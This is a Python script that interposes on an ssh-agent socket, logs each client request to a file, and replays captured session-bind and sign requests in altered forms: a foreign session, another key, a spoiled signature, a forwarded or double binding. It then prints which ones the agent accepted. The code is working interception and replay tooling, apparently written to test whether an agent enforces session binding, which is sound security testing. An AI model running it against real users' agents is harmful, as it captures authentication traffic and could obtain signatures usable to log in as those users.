"""Stands between an ssh client and its agent, keeps what the client asks, and asks again in other words.

    eavesdrop.py listen SOCKET FILE     in front of $SSH_AUTH_SOCK; the requests go to FILE, a line each
    eavesdrop.py replay FILE KEY        KEY: base64 of another key; prints what became of each attempt

Standard library only: it runs in a sandbox, as an attacker would.
"""

import base64
import json
import os
import socket
import struct
import sys
import threading

BIND = b"session-bind@openssh.com"


def string(data):
    return struct.pack(">I", len(data)) + data


def strings(data, count):
    found = []
    for _ in range(count):
        (length,) = struct.unpack_from(">I", data)
        found.append(data[4 : 4 + length])
        data = data[4 + length :]
    return [*found, data]


def exactly(sock, count):
    data = b""
    while len(data) < count:
        more = sock.recv(count - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def message(sock):
    return exactly(sock, struct.unpack(">I", exactly(sock, 4))[0])


def ask(sock, payload):
    sock.sendall(string(payload))
    return message(sock)


def agent():
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(30)
    sock.connect(os.environ["SSH_AUTH_SOCK"])
    return sock


def listen(path, file):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()

    def serve(client):
        try:
            with client, agent() as upstream:
                while True:
                    payload = message(client)
                    with open(file, "a") as out:
                        out.write(base64.b64encode(payload).decode() + "\n")
                    client.sendall(string(ask(upstream, payload)))
        except (EOFError, OSError):
            return

    while True:
        client, _ = listener.accept()
        threading.Thread(target=serve, args=(client,), daemon=True).start()


def captured(file):
    """The last session binding and the sign request after it."""
    with open(file) as lines:
        payloads = [base64.b64decode(line) for line in lines]
    bind = [p for p in payloads if p[0] == 27 and BIND in p][-1]
    sign = [p for p in payloads if p[0] == 13][-1]
    return bind, sign


def bind_message(host_key, session, signature, forwarding):
    return b"\x1b" + string(BIND) + string(host_key) + string(session) + string(signature) + forwarding


def sign_message(key, data, flags=b"\0\0\0\0"):
    return b"\x0d" + string(key) + string(data) + flags


def replay(file, other_key):
    bind, sign = captured(file)
    _, host_key, session, signature, _ = strings(bind[1:], 4)
    key, data, flags = strings(sign[1:], 2)
    foreign = data.replace(string(session), string(bytes(len(session))), 1)
    mine, theirs = string(b"ssh-ed25519") + string(key), string(b"rsa-sha2-512") + string(other_key)
    other = data.replace(mine, theirs, 1)
    no_login = data.replace(string(session) + b"\x32", string(session) + b"\x33", 1)
    spoiled = signature[:-1] + bytes([signature[-1] ^ 1])
    attempts = {
        "as it was": [bind, sign],
        "without a binding": [sign],
        "another key": [bind, sign_message(other_key, other, struct.pack(">I", 4))],
        "something else": [bind, sign_message(key, b"SSHSIG" + string(b"git") * 5, flags)],
        "the session, but no login": [bind, sign_message(key, no_login, flags)],
        "a login of another kind": [
            bind,
            sign_message(key, data.replace(b"connection", b"confection"), flags),
        ],
        "another session": [bind, sign_message(key, foreign, flags)],
        "forwarded": [bind_message(host_key, session, signature, b"\1"), bind, sign],
        "bad signature": [bind_message(host_key, session, spoiled, b"\0"), sign],
        "bound twice": [bind, bind_message(host_key, bytes(32), signature, b"\0"), sign],
    }
    found = {}
    for name, payloads in attempts.items():
        with agent() as sock:
            found[name] = [ask(sock, payload)[0] for payload in payloads][-1] == 14
    print(json.dumps(found))


if __name__ == "__main__":
    if sys.argv[1] == "listen":
        listen(*sys.argv[2:])
    else:
        replay(sys.argv[2], base64.b64decode(sys.argv[3]))
